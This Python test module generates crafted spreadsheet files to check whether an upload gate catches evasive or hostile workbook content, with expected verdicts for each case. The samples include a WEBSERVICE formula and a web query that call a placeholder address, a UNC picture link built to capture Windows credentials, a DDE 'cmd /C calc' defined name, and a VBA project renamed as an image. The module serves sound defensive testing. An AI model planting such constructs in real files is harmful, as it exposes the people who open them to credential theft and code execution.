"""Generated files (nothing binary committed) that try to make the gate and Excel/openpyxl read different
workbooks (issue 10): formulas hidden from a byte scan, ambiguous packages, active content under other
names, formulas reaching outside anywhere, odd but legitimate formats. Each maker takes a valid filled
declaration ``base`` and writes ``out``; :data:`EXPECTED` says what the gate must answer."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Callable

from hostile_corpus import _where, cell_in, sheet_part

CT_XML = b'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
WS_CT = b"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
ELECTRICITY = "monthly[1].electricity_kwh.air"
WEB = b'WEBSERVICE("http://203.0.113.9/x")'


def _formula_cell(template: bytes, field_path: str = ELECTRICITY) -> Callable[[Path, Path], Path]:
    """The cell of ``field_path`` replaced by ``template % (ref, style)``."""
    def make(base: Path, out: Path) -> Path:
        return cell_in(base, out, field_path, lambda ref, st: template % (ref.encode(), st))
    return make


def _ref_spelt(spell: Callable[[str], str]) -> Callable[[Path, Path], Path]:
    """A formula cell whose r attribute is spelt differently (openpyxl normalises it)."""
    def make(base: Path, out: Path) -> Path:
        return cell_in(base, out, ELECTRICITY, lambda ref, st: b'<c r="%s"%s><f>%s</f><v>46000</v></c>'
                       % (spell(ref).encode(), st, WEB))
    return make


def _edit(edits: dict[str, Callable[[bytes], bytes]], extra: dict[str, bytes] | None = None,
          method: int = zipfile.ZIP_DEFLATED) -> Callable[[Path, Path], Path]:
    def make(base: Path, out: Path) -> Path:
        with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", method) as dst:
            for info in src.infolist():
                data = src.read(info)
                dst.writestr(info.filename, edits[info.filename](data) if info.filename in edits else data)
            for name, data in (extra or {}).items():
                dst.writestr(name, data)
        return out
    return make


def _add_ct(*entries: bytes) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</Types>", b"".join(entries) + b"</Types>")


def _add_rel(*entries: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</Relationships>", "".join(entries).encode() + b"</Relationships>")


def second_workbook_part(base: Path, out: Path) -> Path:
    """A second workbook part declared in the content types (openpyxl would take whichever comes first)."""
    with zipfile.ZipFile(base) as zf:
        wb = zf.read("xl/workbook.xml")
    return _edit({"[Content_Types].xml": _add_ct(b'<Override PartName="/xl/workbook2.xml" ContentType="%s"/>' % CT_XML)},
                 {"xl/workbook2.xml": wb})(base, out)


def duplicate_entry_case(base: Path, out: Path) -> Path:
    """Two zip entries whose names differ only in letter case (Excel treats them as one part)."""
    with zipfile.ZipFile(base) as zf:
        wb = zf.read("xl/workbook.xml")
    return _edit({}, {"XL/Workbook.xml": wb})(base, out)


def duplicate_sheet_names(base: Path, out: Path) -> Path:
    """An extra sheet named like a template sheet but for letter case (the template has Latin-free names:
    the extra sheet and a renamed template sheet share a Latin name)."""
    sheet = '<sheet name="Data" sheetId="98" r:id="rIdA"/><sheet name="DATA" sheetId="99" r:id="rIdB"/>'
    body = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData/></worksheet>')
    return _edit({
        "xl/workbook.xml": lambda d: d.replace(b"</sheets>", sheet.encode() + b"</sheets>", 1),
        "xl/_rels/workbook.xml.rels": _add_rel(f'<Relationship Id="rIdA" Type="{REL}worksheet" Target="/xl/worksheets/a.xml"/>',
                                               f'<Relationship Id="rIdB" Type="{REL}worksheet" Target="/xl/worksheets/b.xml"/>'),
        "[Content_Types].xml": _add_ct(b'<Override PartName="/xl/worksheets/a.xml" ContentType="%s"/>' % WS_CT,
                                       b'<Override PartName="/xl/worksheets/b.xml" ContentType="%s"/>' % WS_CT),
    }, {"xl/worksheets/a.xml": body, "xl/worksheets/b.xml": body})(base, out)


def vba_renamed(base: Path, out: Path) -> Path:
    """A VBA project stored as an 'image', its content type written with a character reference."""
    return _edit({
        "[Content_Types].xml": _add_ct(b'<Override PartName="/xl/media/image9.png" '
                                       b'ContentType="application/vnd.ms-office.vba&#80;roject"/>'),
        "xl/_rels/workbook.xml.rels": _add_rel('<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/'
                                               '2006/relationships/vbaProject" Target="media/image9.png"/>'),
    }, {"xl/media/image9.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name" * 64})(base, out)


def ole_unnamed(base: Path, out: Path) -> Path:
    """An OLE compound file under a neutral name and content type, referenced by nothing."""
    return _edit({}, {"xl/media/blob.dat": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2048})(base, out)


def external_link_elsewhere(base: Path, out: Path) -> Path:
    """An external link stored outside xl/externalLinks/, in other letter case."""
    link = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships" r:id="rId1"/></externalLink>')
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships"><Relationship Id="rId1" Type="{REL}externalLinkPath" Target="file:///C:/o.xlsx" '
            'TargetMode="External"/></Relationships>').encode()
    return _edit({
        "[Content_Types].xml": _add_ct(b'<Override PartName="/xl/Links/L1.xml" ContentType="application/'
                                       b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'),
        "xl/_rels/workbook.xml.rels": _add_rel(f'<Relationship Id="rIdL" Type="{REL}externalLink" Target="Links/L1.xml"/>'),
    }, {"xl/Links/L1.xml": link, "xl/Links/_rels/L1.xml.rels": rels})(base, out)


def web_query(base: Path, out: Path) -> Path:
    """A data connection refreshed on open (a web query)."""
    conn = (b'<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><connection id="1" name="q" type="4" refreshOnLoad="1">'
            b'<webPr url="http://203.0.113.9/q"/></connection></connections>')
    return _edit({
        "[Content_Types].xml": _add_ct(b'<Override PartName="/xl/c.xml" ContentType="application/'
                                       b'vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>'),
        "xl/_rels/workbook.xml.rels": _add_rel(f'<Relationship Id="rIdC" Type="{REL}connections" Target="c.xml"/>'),
    }, {"xl/c.xml": conn})(base, out)


def _sheet_rels(base: Path, sheet: str, rel: str) -> Callable[[Path, Path], Path]:
    part = sheet_part(base, sheet)
    folder, name = part.rsplit("/", 1)
    rels_name = f"{folder}/_rels/{name}.rels"
    with zipfile.ZipFile(base) as zf:
        existing = zf.read(rels_name) if rels_name in zf.namelist() else None
    if existing is not None:
        return _edit({rels_name: _add_rel(rel)})
    body = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships">{rel}</Relationships>').encode()
    return _edit({}, {rels_name: body})


def unc_picture(base: Path, out: Path) -> Path:
    """A picture linked to a UNC path (Windows sends the user's credentials to fetch it)."""
    sheet, _ = _where(base, ELECTRICITY)
    return _sheet_rels(base, sheet, f'<Relationship Id="rIdP" Type="{REL}image" '
                                    'Target="\\\\203.0.113.9\\share\\a.png" TargetMode="External"/>')(base, out)


def file_hyperlink(base: Path, out: Path) -> Path:
    """A hyperlink to a file on a share."""
    sheet, _ = _where(base, ELECTRICITY)
    return _sheet_rels(base, sheet, f'<Relationship Id="rIdH" Type="{REL}hyperlink" '
                                    'Target="file://203.0.113.9/share/run.exe" TargetMode="External"/>')(base, out)


def ole_package(base: Path, out: Path) -> Path:
    """An embedded OLE package attached to a sheet."""
    sheet, _ = _where(base, ELECTRICITY)
    rel = f'<Relationship Id="rIdO" Type="{REL}oleObject" Target="../embeddings/oleObject1.bin"/>'
    make_rel = _sheet_rels(base, sheet, rel)
    tmp = out.with_suffix(".tmp.xlsx")
    make_rel(base, tmp)
    _edit({"[Content_Types].xml": _add_ct(b'<Default Extension="bin" ContentType="application/'
                                          b'vnd.openxmlformats-officedocument.oleObject"/>')},
          {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x01" * 4096})(tmp, out)
    tmp.unlink()
    return out


def webservice_elsewhere(base: Path, out: Path) -> Path:
    """WEBSERVICE in a cell that is not an input cell (the instructions sheet's first cell)."""
    with zipfile.ZipFile(base) as zf:
        wb = zf.read("xl/workbook.xml").decode()
    first = re.search(r'<sheet\b[^>]*name="([^"]+)"', wb).group(1)
    part = sheet_part(base, first)
    row = b'<row r="9000"><c r="Z9000" t="str"><f>' + WEB + b'</f><v>1</v></c></row>'
    return _edit({part: lambda d: d.replace(b"</sheetData>", row + b"</sheetData>", 1) if b"</sheetData>" in d
                  else d.replace(b"<sheetData/>", b"<sheetData>" + row + b"</sheetData>", 1)})(base, out)


def dde_defined_name(base: Path, out: Path) -> Path:
    """A defined name holding a DDE link."""
    name = b"<definedName name=\"Leak\">cmd|' /C calc'!A0</definedName>"

    def edit(d: bytes) -> bytes:
        if b"<definedNames>" in d:
            return d.replace(b"<definedNames>", b"<definedNames>" + name, 1)
        return d.replace(b"</sheets>", b"</sheets><definedNames>" + name + b"</definedNames>", 1)
    return _edit({"xl/workbook.xml": edit})(base, out)


def bzip2_member(base: Path, out: Path) -> Path:
    """Every member compressed with bzip2 (zipfile reads it; Excel cannot)."""
    return _edit({}, method=zipfile.ZIP_BZIP2)(base, out)


def opendocument(base: Path, out: Path) -> Path:
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        zf.writestr("content.xml", "<office:document-content xmlns:office="
                                   "'urn:oasis:names:tc:opendocument:xmlns:office:1.0'/>")
    return out


def strict_ooxml(base: Path, out: Path) -> Path:
    return _edit({"_rels/.rels": lambda d: d.replace(
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument",
        b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument")})(base, out)


def doctype_odd_name(base: Path, out: Path) -> Path:
    """A DOCTYPE in an XML part whose name does not end in .xml (classified by content type)."""
    return _edit({"[Content_Types].xml": _add_ct(b'<Override PartName="/customXml/item1.dat" ContentType="application/xml"/>')},
                 {"customXml/item1.dat": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})(base, out)


def case_only_target(base: Path, out: Path) -> Path:
    """A sheet relationship whose target matches its part only case-blind (Excel opens it, openpyxl not)."""
    with zipfile.ZipFile(base) as zf:
        rels = zf.read("xl/_rels/workbook.xml.rels")
    target = re.search(rb'Target="(/?xl/)?worksheets/(sheet\d+\.xml)"', rels)
    return _edit({"xl/_rels/workbook.xml.rels": lambda d: d.replace(target.group(0), target.group(0).replace(
        b"worksheets/", b"WorkSheets/"), 1)})(base, out)


CASES: dict[str, Callable[[Path, Path], Path]] = {
    "formula-after-comment.xlsx": _formula_cell(b'<c r="%s"%s><!-- note --><f>' + WEB + b'</f><v>46000</v></c>'),
    "formula-after-pi.xlsx": _formula_cell(b'<c r="%s"%s><?pi data?><f>' + WEB + b'</f><v>46000</v></c>'),
    "formula-after-value.xlsx": _formula_cell(b'<c r="%s"%s><v>46000</v><f>' + WEB + b'</f></c>'),
    "formula-attr-gt.xlsx": _formula_cell(b'<c x="a&gt;b>" r="%s"%s><f>' + WEB + b'</f><v>46000</v></c>'),
    "formula-ref-lowercase.xlsx": _ref_spelt(str.lower),
    "formula-ref-leading-zero.xlsx": _ref_spelt(lambda r: re.sub(r"(\d+)", r"0\1", r)),
    "second-workbook-part.xlsx": second_workbook_part,
    "duplicate-entry-case.xlsx": duplicate_entry_case,
    "duplicate-sheet-names.xlsx": duplicate_sheet_names,
    "case-only-target.xlsx": case_only_target,
    "vba-renamed.xlsx": vba_renamed,
    "ole-unnamed.xlsx": ole_unnamed,
    "external-link-elsewhere.xlsx": external_link_elsewhere,
    "web-query.xlsx": web_query,
    "unc-picture.xlsx": unc_picture,
    "file-hyperlink.xlsx": file_hyperlink,
    "ole-package.xlsx": ole_package,
    "webservice-elsewhere.xlsx": webservice_elsewhere,
    "dde-defined-name.xlsx": dde_defined_name,
    "bzip2.xlsx": bzip2_member,
    "opendocument.xlsx": opendocument,
    "strict-ooxml.xlsx": strict_ooxml,
    "doctype-odd-name.xlsx": doctype_odd_name,
}

EXPECTED: dict[str, tuple[int, str]] = {
    "formula-after-comment.xlsx": (1, "workbook.formula_in_input"),
    "formula-after-pi.xlsx": (1, "workbook.formula_in_input"),
    "formula-after-value.xlsx": (1, "workbook.formula_in_input"),
    "formula-attr-gt.xlsx": (1, "workbook.formula_in_input"),
    "formula-ref-lowercase.xlsx": (1, "workbook.formula_in_input"),
    "formula-ref-leading-zero.xlsx": (1, "workbook.formula_in_input"),
    "second-workbook-part.xlsx": (2, "file.ambiguous_package"),
    "duplicate-entry-case.xlsx": (2, "file.ambiguous_package"),
    "duplicate-sheet-names.xlsx": (2, "file.ambiguous_package"),
    "case-only-target.xlsx": (2, "file.ambiguous_package"),
    "vba-renamed.xlsx": (1, "file.macro_code"),
    "ole-unnamed.xlsx": (1, "file.active_content"),
    "external-link-elsewhere.xlsx": (1, "file.external_links"),
    "web-query.xlsx": (1, "file.external_content"),
    "unc-picture.xlsx": (1, "file.external_content"),
    "file-hyperlink.xlsx": (1, "file.external_content"),
    "ole-package.xlsx": (1, "file.active_content"),
    "webservice-elsewhere.xlsx": (1, "workbook.formula_outside"),
    "dde-defined-name.xlsx": (1, "workbook.formula_outside"),
    "bzip2.xlsx": (2, "file.compression"),
    "opendocument.xlsx": (2, "file.opendocument"),
    "strict-ooxml.xlsx": (2, "file.strict_ooxml"),
    "doctype-odd-name.xlsx": (2, "file.xml_doctype"),
}


def build(base: Path, folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    return {name: make(base, folder / name) for name, make in CASES.items()}
